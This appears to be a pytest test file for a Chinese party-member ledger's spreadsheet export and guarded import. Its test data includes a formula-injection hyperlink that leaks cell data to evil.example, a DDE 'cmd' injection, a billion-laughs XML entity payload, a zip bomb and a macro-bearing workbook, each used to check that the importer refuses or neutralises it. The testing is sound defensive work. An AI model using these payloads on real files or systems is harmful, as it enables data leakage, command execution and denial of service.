"""台账 export and the guarded import, including files built to attack the importer."""

import datetime
import io
import os
import zipfile
from decimal import Decimal

import pytest
from openpyxl import Workbook, load_workbook

from dangjian.core import ooxml
from dangjian.documents import spreadsheets
from dangjian.documents.spreadsheets import SpreadsheetError, read_xlsx, render_xlsx

HEADERS = ["姓名", "所在支部", "入党日期", "党费（元）", "备注"]
# A refused package is audited (dangjian.core.ooxml), which writes to the database.
pytestmark = pytest.mark.django_db
SHANGHAI = datetime.timezone(datetime.timedelta(hours=8))


def ledger(rows: list[list[object]] | None = None, headers: list[str] | None = None) -> bytes:
    return render_xlsx(
        title="2026年党员台账",
        headers=headers or HEADERS,
        rows=rows if rows is not None else [
            ["张伟", "第一党支部", datetime.date(2015, 7, 1), Decimal("12.50"), "按时缴纳"],
            ["李娜", "机关第二党支部", datetime.date(2020, 12, 30), 30, None],
        ],
    )


def sheet_of(data: bytes):
    return load_workbook(io.BytesIO(data)).active


def rebuild(
    data: bytes,
    replace: dict[str, bytes] | None = None,
    add: dict[str, bytes] | None = None,
    compression: int = zipfile.ZIP_DEFLATED,
) -> bytes:
    """A copy of an .xlsx with some parts replaced or added: how the attack files are made."""
    replace, add = replace or {}, add or {}
    buffer = io.BytesIO()
    source = zipfile.ZipFile(io.BytesIO(data))
    with source, zipfile.ZipFile(buffer, "w", compression) as out:
        for member in source.infolist():
            out.writestr(member.filename, replace.get(member.filename, source.read(member)))
        for name, content in add.items():
            out.writestr(name, content)
    return buffer.getvalue()


# --- export -----------------------------------------------------------------------------------


def test_the_export_opens_with_a_title_and_a_bold_frozen_header():
    sheet = sheet_of(ledger())
    assert sheet.title == "台账"
    assert sheet["A1"].value == "2026年党员台账"
    assert [cell.value for cell in sheet[2]] == HEADERS
    assert all(cell.font.b for cell in sheet[2])
    assert sheet.freeze_panes == "A3"


def test_dates_are_written_as_dates():
    sheet = sheet_of(ledger())
    cell = sheet["C3"]
    assert cell.is_date
    assert cell.value == datetime.datetime(2015, 7, 1)
    assert cell.number_format == "yyyy-mm-dd"


def test_aware_times_are_written_in_the_platform_time_zone():
    moment = datetime.datetime(2026, 1, 5, 1, 30, tzinfo=datetime.UTC)
    sheet = sheet_of(render_xlsx(title="t", headers=["时间"], rows=[[moment]]))
    assert sheet["A3"].value == datetime.datetime(2026, 1, 5, 9, 30)  # Asia/Shanghai
    assert sheet["A3"].number_format == "yyyy-mm-dd hh:mm"


def test_columns_are_wide_enough_for_chinese_text():
    sheet = sheet_of(ledger())
    # "机关第二党支部" is 7 characters, about 14 digit widths in Excel's unit.
    assert sheet.column_dimensions["B"].width >= 14
    assert sheet.column_dimensions["A"].width >= 8


def test_very_long_columns_are_capped():
    sheet = sheet_of(render_xlsx(title="t", headers=["说明"], rows=[["很长" * 200]]))
    assert sheet.column_dimensions["A"].width == spreadsheets.MAX_COLUMN_WIDTH


def test_identity_numbers_keep_every_digit():
    data = render_xlsx(title="t", headers=["号码", "数"], rows=[[110101199003077777, 42]])
    sheet = sheet_of(data)
    assert sheet["A3"].value == "110101199003077777"
    assert sheet["B3"].value == 42


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")',
        "+1+2",
        "-2+3",
        "@SUM(A1:A2)",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_text_that_would_run_as_a_formula_is_quoted(text: str):
    data = render_xlsx(title="t", headers=["备注"], rows=[[text]])
    cell = sheet_of(data)["A3"]
    assert cell.data_type == "s"  # text, never a formula
    assert cell.value == "'" + text


def test_a_malicious_title_or_header_is_quoted_too():
    sheet = sheet_of(render_xlsx(title="=cmd|' /C calc'!A0", headers=["@x"], rows=[]))
    assert sheet["A1"].value == "'=cmd|' /C calc'!A0"
    assert sheet["A2"].value == "'@x"


def test_no_formula_reaches_the_file():
    data = render_xlsx(title="t", headers=["a", "b"], rows=[["=1+1", "=A1"], ["-1", "+1"]])
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")


def test_ordinary_text_and_negative_numbers_are_left_alone():
    sheet = sheet_of(render_xlsx(title="t", headers=["a", "b"], rows=[["党费-补缴", -5]]))
    assert sheet["A3"].value == "党费-补缴"
    assert sheet["B3"].value == -5


def test_control_characters_excel_rejects_are_dropped():
    sheet = sheet_of(render_xlsx(title="t", headers=["a"], rows=[["第一\x00党\x07支部"]]))
    assert sheet["A3"].value == "第一党支部"


def test_a_sheet_name_excel_forbids_is_cleaned():
    data = render_xlsx(title="t", headers=["a"], rows=[], sheet_name="2026/01:台账[初稿]")
    assert sheet_of(data).title == "202601台账初稿"


def test_an_export_needs_headers():
    with pytest.raises(ValueError, match="表头不能为空"):
        render_xlsx(title="t", headers=[], rows=[])


# --- round trip -------------------------------------------------------------------------------


def test_a_round_trip_gives_back_the_rows():
    records = read_xlsx(ledger(), expected_headers=HEADERS)
    assert records == [
        {"姓名": "张伟", "所在支部": "第一党支部", "入党日期": datetime.date(2015, 7, 1),
         "党费（元）": 12.5, "备注": "按时缴纳"},
        {"姓名": "李娜", "所在支部": "机关第二党支部", "入党日期": datetime.date(2020, 12, 30),
         "党费（元）": 30, "备注": None},
    ]


def test_a_malicious_hyperlink_comes_back_as_plain_text():
    attack = '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")'
    records = read_xlsx(
        render_xlsx(title="t", headers=["姓名", "备注"], rows=[["张伟", attack]]),
        expected_headers=["姓名", "备注"],
    )
    assert records == [{"姓名": "张伟", "备注": attack}]
    assert isinstance(records[0]["备注"], str)


def test_a_real_formula_in_an_upload_never_comes_back_as_a_formula():
    workbook = Workbook()
    sheet = workbook.active
    sheet.append(["姓名", "备注"])
    sheet.append(["张伟", '=HYPERLINK("http://evil.example","x")'])
    buffer = io.BytesIO()
    workbook.save(buffer)
    records = read_xlsx(buffer.getvalue(), expected_headers=["姓名", "备注"])
    assert records == [{"姓名": "张伟", "备注": None}]  # no cached value: never the formula


def test_times_come_back_as_datetimes_and_dates_as_dates():
    moment = datetime.datetime(2026, 1, 5, 9, 30)
    data = render_xlsx(title="t", headers=["日", "时"], rows=[[datetime.date(2026, 1, 5), moment]])
    assert read_xlsx(data, expected_headers=["日", "时"]) == [
        {"日": datetime.date(2026, 1, 5), "时": moment}
    ]


def test_fully_empty_rows_are_skipped():
    data = ledger(rows=[["张伟", "一支部", None, 1, ""], [None] * 5, ["", " ", None, None, None],
                        ["李娜", "二支部", None, 2, ""]])
    assert [r["姓名"] for r in read_xlsx(data, expected_headers=HEADERS)] == ["张伟", "李娜"]


def test_a_sheet_without_a_title_row_is_read_too():
    workbook = Workbook()
    sheet = workbook.active
    sheet.append(["姓名", "备注"])
    sheet.append(["张伟", "无"])
    buffer = io.BytesIO()
    workbook.save(buffer)
    assert read_xlsx(buffer.getvalue(), expected_headers=["姓名", "备注"]) == [
        {"姓名": "张伟", "备注": "无"}
    ]


def test_columns_may_come_in_another_order():
    data = render_xlsx(title="t", headers=["备注", "姓名"], rows=[["无", "张伟"]])
    assert read_xlsx(data, expected_headers=["姓名", "备注"]) == [{"备注": "无", "姓名": "张伟"}]


# --- refused uploads --------------------------------------------------------------------------


def test_a_file_over_the_size_limit_is_refused():
    data = ledger()
    with pytest.raises(SpreadsheetError, match="文件过大"):
        read_xlsx(data, expected_headers=HEADERS, max_bytes=len(data) - 1)


@pytest.mark.parametrize(
    "data", [b"", b"%PDF-1.7\n", "姓名,备注\n张伟,无\n".encode(), b"\xd0\xcf\x11\xe0 old .xls"]
)
def test_content_that_is_not_a_zip_is_refused(data: bytes):
    with pytest.raises(SpreadsheetError, match="不是 Excel"):
        read_xlsx(data, expected_headers=HEADERS)


def test_a_zip_that_is_not_a_workbook_is_refused():
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", "<document/>")
    with pytest.raises(SpreadsheetError, match="不是 Excel"):
        read_xlsx(buffer.getvalue(), expected_headers=HEADERS)


def test_a_truncated_zip_is_refused():
    with pytest.raises(SpreadsheetError, match="不是 Excel"):
        read_xlsx(ledger()[:200], expected_headers=HEADERS)


def test_a_workbook_with_macros_is_refused():
    data = rebuild(ledger(), add={"xl/vbaProject.bin": b"\x00" * 16})
    with pytest.raises(SpreadsheetError, match="含宏"):
        read_xlsx(data, expected_headers=HEADERS)


def test_the_uncompressed_limit_is_100_mb():
    assert ooxml.MAX_UNCOMPRESSED_BYTES == 100 * 1024 * 1024
    assert ooxml.MAX_COMPRESSION_RATIO == 100


def test_a_zip_that_unpacks_too_large_is_refused(monkeypatch: pytest.MonkeyPatch):
    # Incompressible data, so only the total size can be at fault; the limit is scaled down to
    # keep the test small.
    monkeypatch.setattr(ooxml, "MAX_UNCOMPRESSED_BYTES", 1024 * 1024)
    data = rebuild(ledger(), add={"xl/media/image1.bin": os.urandom(1024 * 1024)})
    with pytest.raises(SpreadsheetError, match="解压后过大"):
        read_xlsx(data, expected_headers=HEADERS)


def test_a_zip_bomb_is_refused_by_its_compression_ratio():
    bomb = b"0" * (8 * 1024 * 1024)  # 8 MB of one byte deflates about 1000-fold
    data = rebuild(ledger(), add={"xl/media/padding.bin": bomb})
    assert len(data) < 100 * 1024
    with pytest.raises(SpreadsheetError, match="压缩比"):
        read_xlsx(data, expected_headers=HEADERS)


def test_a_stored_zip_is_accepted():
    data = rebuild(ledger(), compression=zipfile.ZIP_STORED)
    assert len(read_xlsx(data, expected_headers=HEADERS)) == 2


BILLION_LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
    '<!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">]>'
)


@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
@pytest.mark.parametrize(
    "part", ["xl/worksheets/sheet1.xml", "xl/styles.xml", "xl/workbook.xml", "[Content_Types].xml"]
)
def test_xml_entity_declarations_are_refused_before_parsing(part: str, encoding: str):
    data = ledger()
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        original = archive.read(part).decode()
    body = original.split("?>", 1)[-1]  # any XML declaration gives way to the attack's own
    poisoned = (BILLION_LAUGHS + body).encode(encoding)
    with pytest.raises(SpreadsheetError, match="DOCTYPE"):
        read_xlsx(rebuild(data, replace={part: poisoned}), expected_headers=HEADERS)


def test_an_entity_declaration_split_across_scan_chunks_is_found(monkeypatch: pytest.MonkeyPatch):
    monkeypatch.setattr(ooxml, "SCAN_CHUNK_BYTES", 7)
    data = rebuild(ledger(), add={"xl/extra.xml": b"<a>padding</a><!ENTITY x 'y'>"})
    with pytest.raises(SpreadsheetError, match="ENTITY"):
        read_xlsx(data, expected_headers=HEADERS)


def test_a_header_that_differs_names_the_missing_and_unknown_columns():
    data = render_xlsx(title="t", headers=["姓名", "所在支部", "身份证号"], rows=[])
    with pytest.raises(SpreadsheetError) as refused:
        read_xlsx(data, expected_headers=["姓名", "所在支部", "入党日期"])
    message = str(refused.value)
    assert "缺少列：入党日期" in message
    assert "无法识别的列：身份证号" in message


def test_a_duplicated_header_is_refused():
    data = render_xlsx(title="t", headers=["姓名", "姓名"], rows=[])
    with pytest.raises(SpreadsheetError, match="重复的列：姓名"):
        read_xlsx(data, expected_headers=["姓名"])


def test_an_empty_sheet_is_refused():
    workbook = Workbook()
    buffer = io.BytesIO()
    workbook.save(buffer)
    with pytest.raises(SpreadsheetError, match="没有找到表头"):
        read_xlsx(buffer.getvalue(), expected_headers=HEADERS)


def test_too_many_rows_are_refused():
    data = ledger(rows=[["张伟", "一支部", None, 1, ""]] * 4)
    assert len(read_xlsx(data, expected_headers=HEADERS, max_rows=4)) == 4
    with pytest.raises(SpreadsheetError, match="最多 3 行"):
        read_xlsx(data, expected_headers=HEADERS, max_rows=3)


def test_a_broken_sheet_inside_a_valid_zip_is_refused_in_chinese():
    data = rebuild(ledger(), replace={"xl/worksheets/sheet1.xml": b"<worksheet><sheetData><row>"})
    with pytest.raises(SpreadsheetError, match="无法读取"):
        read_xlsx(data, expected_headers=HEADERS)


def test_the_error_is_a_value_error():
    assert issubclass(SpreadsheetError, ValueError)
